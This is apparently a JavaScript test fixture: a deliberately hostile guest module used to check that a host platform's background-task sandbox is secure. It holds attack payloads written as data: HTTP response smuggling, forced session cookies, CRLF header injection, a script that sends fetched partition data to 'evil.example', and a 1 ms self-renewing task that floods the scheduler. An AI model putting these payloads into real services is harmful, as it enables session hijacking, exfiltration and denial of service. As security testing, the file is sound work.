// The `hostile` example guest: a guest that attacks its host, for the security tests. It
// reflects the request it was given (what credentials reached it?), answers with framing,
// cookie and invalid headers and with HTML that runs script, and renews a task every 1 ms.
// Each behaviour is a path below its push URL; README.md lists them.
import { list, register } from "dormant:host/background-tasks@0.1.0";

const encoder = new TextEncoder();
let renewals = 0;
/** The headers of the last request to `/remember`, for requests delivered in the background. */
let remembered = [];

function reply(status, headers, body) {
  return { status, headers, body: encoder.encode(body) };
}

function json(value) {
  return reply(200, [["content-type", "application/json"]], JSON.stringify(value));
}

function push(name, receiveCredentials) {
  register({ name, trigger: { tag: "push" }, entry: "door", payload: new Uint8Array(), priority: 100, outlivePartition: false, receiveCredentials });
}

/** The task that renews itself: due 1 ms after each run (or at time 0, already past). */
function renew(trigger) {
  register({ name: "renew", trigger, entry: "renew", payload: encoder.encode(trigger.tag), priority: 0, outlivePartition: false });
}

/** A body that, were the host to frame it by the guest's `content-length: 5`, would leave a forged response on the connection. */
const SMUGGLED = "hello" + "HTTP/1.1 418 Smuggled\r\ncontent-length: 0\r\n\r\n";

const behaviours = {
  "/reflect": (request) => json({ headers: request.headers }),
  "/remember": (request) => {
    remembered = request.headers;
    return undefined;
  },
  "/remembered": () => json({ headers: remembered }),
  "/framing": () =>
    reply(
      200,
      [
        ["content-type", "text/plain"],
        ["content-length", "5"],
        ["connection", "keep-alive"],
        ["keep-alive", "timeout=999"],
        ["upgrade", "h2c"],
        ["te", "trailers"],
        ["trailer", "x-after"],
        ["proxy-authenticate", "Basic"],
        ["x-kept", "yes"],
      ],
      SMUGGLED,
    ),
  "/chunked": () =>
    reply(
      200,
      [
        ["transfer-encoding", "chunked"],
        ["content-type", "text/plain"],
      ],
      "not really chunked",
    ),
  "/host-cookie": () => reply(200, [["set-cookie", "dormant_session=attacker; Path=/"]], "signed you in as me"),
  "/token-cookie": () => reply(200, [["Set-Cookie", "__Host-Dormant_token=attacker; Path=/; Secure"]], "and again"),
  "/own-cookie": () => reply(200, [["set-cookie", "theme=dark; Path=/"]], "a cookie of my own"),
  "/html": () =>
    reply(
      200,
      [
        ["content-type", "text/html"],
        ["content-security-policy", "script-src *"],
        ["x-content-type-options", "none"],
      ],
      "<!doctype html><script>fetch('/api/partitions').then((r) => r.text()).then((t) => fetch('https://evil.example/?' + t))</script>",
    ),
  "/bad-name": () => reply(200, [["bad header", "x"]], "bad name"),
  "/bad-value": () => reply(200, [["x-note", "a\r\nset-cookie: dormant_session=attacker"]], "header injection"),
  "/wide-value": () => reply(200, [["x-note", "caf\u00e9 \u20ac"]], "a character above U+00FF"),
  "/many-headers": () =>
    reply(
      200,
      Array.from({ length: 500 }, (_, i) => [`x-h${i}`, "v"]),
      "500 headers",
    ),
  "/informational": () => reply(101, [["upgrade", "websocket"]], ""),
  "/renew": () => {
    renew({ tag: "after", val: 1n });
    return json({ renewing: "after(1)" });
  },
  "/renew-at": () => {
    renew({ tag: "at", val: 0n });
    return json({ renewing: "at(0)" });
  },
  "/renewals": () => json({ renewals }),
};

export const lifecycle = {
  onActivate() {
    const held = new Set(list().map((task) => task.name));
    if (!held.has("door")) push("door", undefined);
    if (!held.has("door-with-credentials")) push("door-with-credentials", true);
  },
};

export const handler = {
  onTask(event) {
    if (event.entry === "renew") {
      renewals += 1;
      renew(new TextDecoder().decode(event.payload) === "at" ? { tag: "at", val: 0n } : { tag: "after", val: 1n });
      return undefined;
    }
    const request = event.request;
    if (!request) throw `hostile has nothing for entry '${event.entry}' without a request`;
    const behaviour = behaviours[request.path] ?? behaviours["/reflect"];
    return behaviour(request);
  },
};
